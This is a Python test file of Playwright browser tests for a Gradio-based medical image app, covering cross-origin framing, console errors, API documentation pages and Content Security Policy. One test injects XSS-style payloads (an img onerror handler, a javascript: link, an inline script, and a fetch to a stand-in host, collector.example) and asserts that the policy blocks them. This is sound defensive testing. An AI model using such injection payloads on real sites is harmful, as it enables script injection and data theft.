"""The page where others show it: in a frame of another origin, as an element of another page, at a Space's address."""

import threading
from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any

import gradio
import pytest

from tests.browser.page import OpenPage
from tests.running import Space

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

GRADIOS_OWN = ("Method not implemented.",)
"""What Gradio's page says to the console by itself."""


class _Quiet(SimpleHTTPRequestHandler):
    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def elsewhere(space: Space, tmp_path: Path) -> Iterator[str]:
    """Another origin: a page that frames ours, and one that has it as an element, with Gradio's script beside it."""
    frontend = Path(gradio.__file__).parent / "templates" / "frontend"
    for name in ("gradio.js", "assets", "static"):
        (tmp_path / name).symlink_to(frontend / name)
    (tmp_path / "favicon.ico").touch()
    (tmp_path / "frame.html").write_text(f'<iframe src="{space.url}/" width="1200" height="900"></iframe>')
    element = f'<script type="module" src="gradio.js"></script><gradio-app src="{space.url}"></gradio-app>'
    (tmp_path / "element.html").write_text(f"<!doctype html>{element}")
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(_Quiet, directory=str(tmp_path)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://localhost:{server.server_port}"
    server.shutdown()
    server.server_close()


@pytest.fixture
def page(chromium: "Browser") -> "Iterator[Page]":
    """A window; it must have nothing to complain about."""
    opened, complaints = chromium.new_page(), []
    opened.set_default_timeout(30_000)

    def note(message: Any) -> None:
        if message.type in ("error", "warning") and not message.text.startswith(GRADIOS_OWN):
            complaints.append(message.text)

    opened.on("console", note)
    opened.on("pageerror", lambda error: complaints.append(str(error)))
    yield opened
    opened.close()
    assert complaints == []


@pytest.mark.parametrize("way", ["frame", "element"])
def test_another_origin_can_show_the_page(page: "Page", elsewhere: str, drawn: dict[str, Path], way: str) -> None:
    page.goto(f"{elsewhere}/{way}.html")
    shown: Any = page.frame_locator("iframe") if way == "frame" else page
    shown.locator(".sl-upload input[type=file]").first.set_input_files(drawn["limb"])
    shown.locator(".sl-verdict h3").first.wait_for()
    picture = shown.locator(".sl-heat").first
    assert picture.evaluate("(image) => image.complete && image.naturalWidth > 0")


def test_a_reading_breaks_no_policy(desk: OpenPage, drawn: dict[str, Path]) -> None:
    _read(desk, drawn)


def test_a_reading_in_the_dark_breaks_no_policy(dark: OpenPage, drawn: dict[str, Path]) -> None:
    _read(dark, drawn)


def _read(opened: OpenPage, drawn: dict[str, Path]) -> None:
    opened.pick(drawn["limb"])
    opened.answer()
    heat = opened.panel.locator(".sl-heat")
    assert heat.evaluate("(image) => image.complete && image.naturalWidth > 0")
    opened.panel.get_by_role("button", name="Answer as JSON").click()
    opened.panel.get_by_text("fracture_probability").first.wait_for()
    assert opened.errors == []  # and once more when the page is closed


def test_what_is_smuggled_into_the_page_does_not_run(desk: OpenPage) -> None:
    tried = desk.page.evaluate(
        """async () => {
        const broken = [];
        document.addEventListener("securitypolicyviolation", (event) => broken.push(event.effectiveDirective));
        const place = document.body.appendChild(document.createElement("div"));
        place.innerHTML = '<img src="data:," onerror="window.smuggled = 1"><a href="javascript:window.smuggled = 1">';
        place.querySelector("a").click();
        const script = document.createElement("script");
        script.textContent = "window.smuggled = 1";
        place.append(script);
        await fetch("https://collector.example/", { mode: "no-cors" }).catch(() => 0);
        await new Promise((done) => setTimeout(done, 300));
        return [window.smuggled ?? null, [...new Set(broken)].sort()];
    }"""
    )
    assert tried == [None, ["connect-src", "script-src-attr", "script-src-elem"]]
    desk.errors.clear()


@pytest.mark.parametrize("path", ["docs", "redoc"])
def test_the_documentation_works_under_its_policy(chromium: "Browser", space: Space, path: str) -> None:
    page, complaints = chromium.new_page(), []
    page.on("console", lambda message: complaints.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.goto(f"{space.url}/{path}")
    page.get_by_text("Pneumonia").first.wait_for()
    if path == "redoc":
        page.get_by_role("textbox", name="Search").or_(page.get_by_placeholder("Search")).first.fill("heat")
        page.get_by_text("where the network saw its evidence").first.wait_for()
    else:
        page.locator("#operations-service-health button").first.click()
        page.get_by_role("button", name="Try it out").click()
        page.get_by_role("button", name="Execute").click()
        page.get_by_text('"status": "healthy"').first.wait_for()
    page.close()
    # ReDoc would show its maker's logo, and has no setting for it.
    assert [each for each in complaints if "cdn.redoc.ly" not in each] == []
